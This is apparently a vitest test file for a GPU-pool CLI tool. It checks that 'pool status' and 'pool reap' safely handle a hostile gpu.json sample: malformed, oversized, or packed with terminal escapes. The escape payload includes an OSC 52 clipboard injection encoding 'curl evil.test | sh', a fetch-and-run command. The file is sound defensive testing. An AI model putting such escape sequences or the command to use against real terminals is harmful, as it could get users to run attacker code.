import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import type {Simulator} from '../../src/lib/simulator/server.js'
import {type CliResult, startCli} from '../support/cli.js'
import {canRunHosts, hostSshFlags, sshWorkspace, startHostsSimulator} from '../support/hosts.js'
import {expectNoSecrets} from '../support/secrets.js'

/**
 * The fault matrix's rows for a member whose GPU sample (/var/lib/velda/gpu.json) is hostile: malformed, huge, or
 * full of terminal escapes. The member's own process writes it (through `pool ssh`, as anything running there
 * could); then `pool status`, the built binary, reads it over OpenSSH. Each row checks the exit code, the member's
 * state and detail, one JSON document with --json, and nothing raw on the terminal.
 */
const canHost = canRunHosts('the hostile GPU sample rows of the fault matrix')

const ESC = '\x1b'
const BEL = '\x07'
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/

const escapes = `${ESC}]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}${BEL}${ESC}]0;owned${BEL}\u009b2J`
const SAMPLE = {version: 1, sampled_at: '2026-12-04T10:00:00Z', tool: 'amd-smi', tool_exit: 0, promised: 1, busy_thresholds: {utilization_pct: 5, vram_pct: 5}, busy: null, last_busy_at: null, idle_since: null, output: null, output_cut: false}

/** What the member runs to write its gpu.json: the file's bytes, or (too big for a command line) a command making them. */
const ROWS: {name: string; file: () => string; state: string; detail: RegExp; shown?: RegExp}[] = [
  {name: 'malformed', file: () => `{"version": 1, "tool": "amd-smi${escapes}`, state: 'unknown', detail: /^agent active, but the GPU sample \(gpu\.json\) is not one: not JSON: "\{\\"version\\": 1, \\"tool\\": \\"amd-smi\\u001b\]52;c;/},
  {name: 'huge (100 MiB)', file: () => 'head -c 104857600 /dev/zero | tr "\\0" "{"', state: 'unknown', detail: /is not one: larger than 512 KiB$/},
  {
    name: 'full of escapes',
    file: () => JSON.stringify({...SAMPLE, output: JSON.stringify([{gpu: 0, name: escapes, usage: {gfx_activity: escapes}, ecc: {total_uncorrectable_count: 3}}])}),
    state: 'gpu-errors',
    detail: /^3 uncorrectable ECC errors on GPU 0$/,
  },
  {name: 'a problem of its own, with escapes', file: () => JSON.stringify({...SAMPLE, problem: `the tool said ${escapes}`}), state: 'gpu-missing', detail: new RegExp(`^no GPU seen \\(the tool said ${ESC}\\]52;c;`), shown: /no GPU seen \(the tool said \\x1b\]52;c;/},
]

describe.runIf(canHost)('the fault matrix: a member whose GPU sample is hostile, x pool status', () => {
  const {configFile, key, state} = sshWorkspace('velda-hostile-gpu-')
  const report: string[][] = []
  let sim: Simulator

  beforeAll(async () => {
    sim = await startHostsSimulator(key, {seed: 23, bootMs: 0})
  })
  afterAll(async () => {
    await sim?.close()
    const widths = [0, 1, 2].map((column) => Math.max(...report.map((row) => row[column]?.length ?? 0), 'hostile gpu.json'.length))
    console.log(`\nFault matrix: a hostile GPU sample (the built binary, OpenSSH to the simulated hosts)\n${['hostile gpu.json', 'pool status', 'pool reap --idle --unhealthy'].map((h, i) => h.padEnd(widths[i] ?? 0)).join('  ')}\n${report.map((row) => row.map((c, i) => c.padEnd(widths[i] ?? 0)).join('  ')).join('\n')}\n`)
  })

  const velda = (args: string[]): Promise<CliResult> =>
    startCli([...args.slice(0, args.indexOf('--') < 0 ? args.length : args.indexOf('--')), '-c', configFile, ...hostSshFlags(sim, key), ...(args.includes('--') ? args.slice(args.indexOf('--')) : [])], {
      DIGITALOCEAN_API_ENDPOINT: sim.url,
      DIGITALOCEAN_API_TOKEN: sim.token,
      XDG_STATE_HOME: state,
    }).exited

  it.each(ROWS)('$name', async (row) => {
    sim.core.reset()
    const [member] = sim.seedDroplets({count: 1, namePrefix: 'velda-b2f06752-', tags: ['velda', 'velda-pool:gpu'], size: 'gpu-mi300x1-192gb-devcloud'})
    await sim.hostsReady()
    const bytes = row.name.startsWith('huge') ? row.file() : `echo ${Buffer.from(row.file()).toString('base64')} | base64 -d`
    const written = await velda(['pool', 'ssh', 'gpu', member!.name, '--', `${bytes} > /var/lib/velda/gpu.json`])
    expect(written.status, written.stderr).toBe(0)
    const json = await velda(['pool', 'status', 'gpu', '--json'])
    const members = (JSON.parse(json.stdout) as {members: {state: string; detail: string}[]}).members
    expect(members.map((m) => m.state)).toEqual([row.state])
    expect(members[0]?.detail).toMatch(row.detail)
    expect(json.status).toBe(4)
    const table = await velda(['pool', 'status', 'gpu'])
    expect(table.status).toBe(4)
    expect(table.stdout + table.stderr).not.toMatch(RAW_CONTROL)
    // --json keeps the member's text as it came (JSON escapes it); the table shows it through the output filter.
    if (row.shown) expect(table.stdout).toMatch(row.shown)
    expectNoSecrets(json.stdout + json.stderr + table.stdout + table.stderr)
    // pool reap never deletes on a sample it cannot trust: kept as unknown (unreadable; the two rows that parse are
    // of a fixed day, so stale), and said without a raw byte.
    const reap = await velda(['pool', 'reap', 'gpu', '--idle', '1m', '--unhealthy', '--yes', '--json'])
    expect(reap.status, reap.stderr).toBe(0)
    const reaped = JSON.parse(reap.stdout) as {reaped: unknown[]; kept: {reason: string; detail: string}[]}
    expect([reaped.reaped, reaped.kept.map((k) => k.reason)]).toEqual([[], ['unknown']])
    const dryRun = await velda(['pool', 'reap', 'gpu', '--idle', '1m', '--unhealthy', '--dry-run'])
    expect(dryRun.status).toBe(0)
    expect(dryRun.stdout + dryRun.stderr).not.toMatch(RAW_CONTROL)
    expect(sim.core.dropletList().map((d) => d.id)).toEqual([member!.id])
    report.push([row.name, `exit 4, ${row.state}, one JSON document, nothing raw, no secret`, `exit 0, kept: unknown (${reaped.kept[0]?.detail}), nothing deleted, nothing raw`])
  })
})
